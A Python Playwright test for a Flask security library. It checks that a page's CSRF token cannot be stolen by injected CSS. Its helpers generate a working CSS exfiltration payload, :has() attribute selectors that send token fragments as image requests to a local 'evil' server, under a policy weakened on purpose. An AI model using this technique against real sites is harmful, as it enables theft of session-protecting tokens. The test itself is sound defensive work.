"""The CSRF token of a page, out of reach of a style that somebody injects, in a real browser."""

from itertools import product

from flask import Flask, render_template
from playwright.sync_api import Page

from secure_flask.auth.access import public
from secure_flask.web.csp_syntax import HTTPS, SELF, UNSAFE_INLINE
from core import routes
from tests.browser.conftest import Elsewhere, Serve
from core.conftest import LOGIN, MakeApp

# Where pages like to keep a token.
ATTRIBUTES = ("content", "value", "title", "data-csrf-token", "data-csrf", "data-token")
PARTS = ["".join(digits) for digits in product("0123456789abcdef", repeat=3)]
DECOY = "no-token"


def test_a_style_reads_no_part_of_it(make_app: MakeApp, serve: Serve, page: Page) -> None:
    app, elsewhere = make_app(**insecure_styles(make_app())), Elsewhere()
    evil = serve(elsewhere, https=True).at("127.0.0.1")
    site = serve(app).at("localhost")

    @app.get("/_test/token")
    @public
    def token() -> str:
        context: dict[str, str] = {}
        app.update_template_context(context)
        # The token is text here; the decoy shows that the style reads attributes.
        shown = f'<template id="probe">{context["csrf_token"]}</template>'
        injected = f'<i title="{DECOY}"></i><style>{style(evil)}</style>'
        return render_template("base.html") + shown + injected

    page.request.post(f"{site}{routes.LOGIN}", data=LOGIN)
    page.goto(f"{site}/_test/token")
    assert page.locator("#probe").inner_html()
    # On a slow computer this request may begin only after the network was idle.
    asked = [elsewhere.asked.get(timeout=30)]
    page.wait_for_load_state("networkidle")
    # A browser may ask for one image twice.
    assert {*asked, *elsewhere.asked.queue} == {f"/{DECOY}"}, (
        "A page holds the CSRF token in an attribute, where an injected style reads it: "
        "make it the text of an element."
    )


def insecure_styles(app: Flask) -> dict[str, object]:
    """A policy that lets styles of strangers in, and images from anywhere."""
    insecure = {"style-src": [SELF, UNSAFE_INLINE], "img-src": [SELF, HTTPS]}
    return {"CSP": {**app.config["CSP"], **insecure}}


def style(evil: str) -> str:
    """Ask another site for each part that stands in one of the attributes, all in one load."""
    asked = [
        rule(f":root:has({selectors(part)})", f"--{part}: url({evil}/{part})") for part in parts()
    ]
    images = ", ".join(f"var(--{part}, none)" for part in parts())
    return "\n".join([*asked, rule(":root", f"background: {images}")])


def rule(selector: str, declaration: str) -> str:
    return f"{selector} " + "{" + declaration + "}"


def selectors(part: str) -> str:
    return ", ".join(f'[{attribute}*="{part}"]' for attribute in ATTRIBUTES)


def parts() -> list[str]:
    return [DECOY, *PARTS]
